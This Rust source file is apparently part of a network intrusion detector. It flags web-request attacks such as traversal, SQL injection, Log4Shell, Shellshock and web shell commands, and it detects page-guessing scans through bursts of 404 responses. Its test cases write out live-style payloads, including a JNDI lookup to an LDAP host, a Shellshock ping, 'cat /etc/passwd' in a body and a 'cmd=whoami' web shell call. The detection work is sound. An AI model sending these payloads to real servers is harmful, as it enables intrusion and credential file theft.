//! Attacks in web requests: traversal, injection, look-up expressions; and pages guessed.

mod judge;

use crate::{
    About, Detector, Draft, Findings, Kind, Site, Watch, named::name_of, watched::Watched,
    window::Lately,
};
use model::{
    Address, Detail, Direction, Object, Observation, Operation, OperationClass, Outcome, Severity,
};
use std::hash::{BuildHasher, Hasher};

pub static WEB_ATTACK: Detector = Detector {
    about: About {
        id: "web-attack",
        title: "Attack in a web request",
        engine: model::Engine::Malware,
        why: "Panels, controllers and servers offer web pages; a request can carry an attack that \
              reads files, changes a database or runs a program, and lists of names are gone \
              through to find pages nobody is meant to see.",
        techniques: &["T1190", "T0819", "T0866", "T1210", "T1046", "T0846"],
        false_positives: "Vulnerability scanners; pages whose parameters look like code; pages \
                          that ask for many parts that are gone.",
        runbook: "See how the server answered: a page or a file means that the attack worked.\n\
                  Find out whether the source is the site's scanner.\n\
                  If not, block the source, examine the server and install its updates.",
        sees: &[Kind::Operation],
    },
    watch: || Box::new(WebAttack { missing: Watched::new(MISSING_SECS) }),
    #[cfg(test)]
    cases,
};

/// Different pages within the span that were not there (RFC 9110, 15.5.5).
const MISSING_MIN: usize = 50;
const MISSING_SECS: i64 = 60;
const NOT_FOUND: u32 = 404;

struct WebAttack {
    missing: Watched<(Address, Address), Missing>,
}

/// Of one client and server.
#[derive(Default)]
struct Missing {
    /// Stands for the path that was asked for last.
    asked: u64,
    paths: Lately<u64>,
}

struct Attack {
    name: &'static str,
    severity: Severity,
    says: &'static str,
}

static TRAVERSAL: Attack = Attack {
    name: "path traversal",
    severity: Severity::High,
    says: "the path climbs out of the server's folder",
};
static INJECTION: Attack = Attack {
    name: "SQL injection",
    severity: Severity::High,
    says: "a parameter holds database code",
};
static LOOKUP: Attack = Attack {
    name: "Log4Shell (CVE-2021-44228)",
    severity: Severity::High,
    says: "a look-up expression makes a vulnerable logger fetch and run a program",
};
static SHELL: Attack = Attack {
    name: "Shellshock (CVE-2014-6271)",
    severity: Severity::High,
    says: "a header holds a function of a shell with commands behind it",
};
static CODE: Attack = Attack {
    name: "code injection",
    severity: Severity::High,
    says: "a parameter holds an expression or a program that frameworks or the server would run",
};
static SCRIPT: Attack = Attack {
    name: "cross-site scripting",
    severity: Severity::Medium,
    says: "a parameter holds a script that would run in the browser of who looks at the page",
};
static FORGERY: Attack = Attack {
    name: "request in the server's name (CVE-2021-34473, ProxyShell)",
    severity: Severity::High,
    says: "the address of a mailbox makes the server ask another of its services, as itself",
};
static MANAGEMENT: Attack = Attack {
    name: "command without sign-in (CVE-2021-38647, OMIGOD)",
    severity: Severity::High,
    says: "the host's management is asked to run a program, and nobody signs in: servers without \
           the update do so with all rights",
};
static CODING: Attack = Attack {
    name: "empty content coding (CVE-2021-31166)",
    severity: Severity::Medium,
    says: "a list of codings has an empty element behind one that nobody knows, which no browser \
           sends and which stops Windows servers without the update",
};
static WEB_SHELL: Attack = Attack {
    name: "command to a web shell",
    severity: Severity::High,
    says: "a page is given a command of the operating system to run, as pages take them that \
           attackers leave on servers",
};
static COMMAND: Attack = Attack {
    name: "command injection",
    severity: Severity::High,
    says: "a parameter holds commands of a shell",
};

impl Watch for WebAttack {
    fn wants(&self, protocol: &str, _: OperationClass) -> bool {
        protocol == "http"
    }

    fn dropped(&self) -> u64 {
        self.missing.dropped()
    }

    fn see(&mut self, o: &Observation, _: &Site<'_>, out: &mut Findings) {
        let Detail::Operation(operation) = &o.detail else { return };
        if o.protocol != "http" {
            return;
        }
        self.look_for_pages(o, operation, out);
        if operation.direction != Direction::Request {
            return;
        }
        let Some(attack) = attack(operation) else { return };
        let key = (attack.name, o.from.address(), o.to.address());
        let raised = out.raise(&WEB_ATTACK.about, key, o, || {
            let title = format!("{{0}} attacks {{1}}: {}", attack.name);
            let text: String = name_of(operation).chars().take(200).collect();
            Draft::between(o, attack.severity, title)
                .because(format!("In the request {text:?} {}.", attack.says))
        });
        debug_assert!(raised.is_none_or(|open| open.count() > 0));
    }
}

impl WebAttack {
    /// A browser that is led astray asks for a few pages that are not there, a device that asks for
    /// one all day asks for the same. Lists of names that might be there are another thing.
    fn look_for_pages(&mut self, o: &Observation, operation: &Operation, out: &mut Findings) {
        let (Some(from), Some(to)) = (o.from.address(), o.to.address()) else { return };
        if operation.direction == Direction::Request {
            if let Object::Name { area: "uri", name } = &operation.object {
                let path = name.split('?').next().unwrap_or_default();
                let mut hasher = foldhash::fast::FixedState::with_seed(12).build_hasher();
                hasher.write(path.as_bytes());
                self.missing.of((from, to), o.at, Missing::default).asked = hasher.finish();
            }
            return;
        }
        if !matches!(operation.outcome, Outcome::Refused { code: NOT_FOUND, .. }) {
            return;
        }
        let (client, server) = (to, from);
        let Some(pair) = self.missing.known(&(client, server)) else { return };
        let count = pair.paths.see(pair.asked, o.at, MISSING_SECS);
        if count < MISSING_MIN {
            return;
        }
        let first = pair.paths.first(o.at);
        let raised = out.raise(&WEB_ATTACK.about, ("missing", client, server), o, || {
            let title = "{0} tries names of pages on {1}";
            Draft::by(client, [server], Severity::Medium, title)
                .because(format!(
                    "{MISSING_MIN} or more different pages it asked for within {MISSING_SECS} s \
                     are not there: programs go through such lists that look for forgotten pages, \
                     ways in and known holes."
                ))
                .techniques(&["T1046", "T0846"])
        });
        let Some(open) = raised else { return };
        open.spans(first, o.at);
        const _: () = assert!(MISSING_SECS == 60, "the words below say so");
        let says = "pages that were not there in the newest minute";
        open.proof_count("missing", (first, o.at), (count as u64, says));
    }
}

/// Where a text of a request stood.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Place {
    Target,
    Head,
    Body,
}

fn attack(operation: &Operation) -> Option<&'static Attack> {
    match operation.function_name {
        "command without sign-in" => return Some(&MANAGEMENT),
        "empty content coding" => return Some(&CODING),
        _ => {}
    }
    let Object::Name { area, name } = &operation.object else { return None };
    let place = match *area {
        "body" => Place::Body,
        "header" => Place::Head,
        _ => Place::Target,
    };
    judge::judge(place, name)
}

#[cfg(test)]
fn cases() -> Vec<crate::testing::Case> {
    use crate::testing::{Case, answered_with, requested};
    let one = |text| vec![requested(0, text)];
    let said = |function_name, area, text: &str| {
        let mut o = requested(0, text);
        let Detail::Operation(operation) = &mut o.detail else { unreachable!("a request") };
        operation.function_name = function_name;
        operation.object = Object::Name { area, name: text.into() };
        vec![o]
    };
    let not_found = |count: i64, apart: i64, path: fn(i64) -> String| {
        let pair = |i: i64| {
            let mut answer = answered_with(i * apart + 1, "http", "GET");
            if let Detail::Operation(operation) = &mut answer.detail {
                operation.outcome = Outcome::Refused { code: NOT_FOUND, name: "error" };
            }
            [requested(i * apart, &path(i)), answer]
        };
        (0..count).flat_map(pair).collect()
    };
    vec![
        Case::fires("a list of names", not_found(60, 100, |i| format!("/n{i}"))),
        Case::silent("a list over a day", not_found(60, 60_000, |i| format!("/n{i}"))),
        Case::silent("one page again and again", not_found(200, 100, |i| format!("/a?t={i}"))),
        Case::fires("a file of the server", one("/?page=php://filter/resource=index")),
        Case::fires("traversal, hidden twice", one("/cgi-bin/.%%32%65/.%2e/%2e%2e/%2e%2e/bin/sh")),
        Case::fires("injection", one("/item?id=1%27+union+select+user+from+users%23")),
        Case::fires("a look-up", one("authorization: Bearer ${jndi:ldap://192.0.2.1/a}")),
        Case::fires("a shell's function", one("() { :;}; /bin/ping -c 1 192.0.2.1")),
        Case::fires("an expression", one("/a.action?x=%25%7B%28%23a%3D%40java.lang.Runtime%29%7D")),
        Case::fires("a script", one("/search?name=%3Cscript%3Ealert%281%29%3C%2Fscript%3E")),
        Case::fires("words in a body", said("words of a program", "body", "a=1;cat /etc/passwd")),
        Case::fires("no sign-in", said("command without sign-in", "body", "ExecuteScript")),
        Case::fires("a coding", said("empty content coding", "header", "doar-e, ,")),
        Case::fires("a web shell", one("/uploads/a.php?cmd=whoami")),
        Case::silent("a camera", one("/cgi-bin/param.cgi?cmd=getserverinfo&id=3")),
        Case::silent("prose in a body", said("words of a program", "body", "cats' or dogs' food")),
        Case::silent("a page about scripts", one("/doc/%3Cscript%3E.html?lang=javascript")),
        Case::silent("a page", one("/index.html?page=2&name=O%27Brien")),
        Case::silent("a relative link", one("/styles/../main.css")),
    ]
}
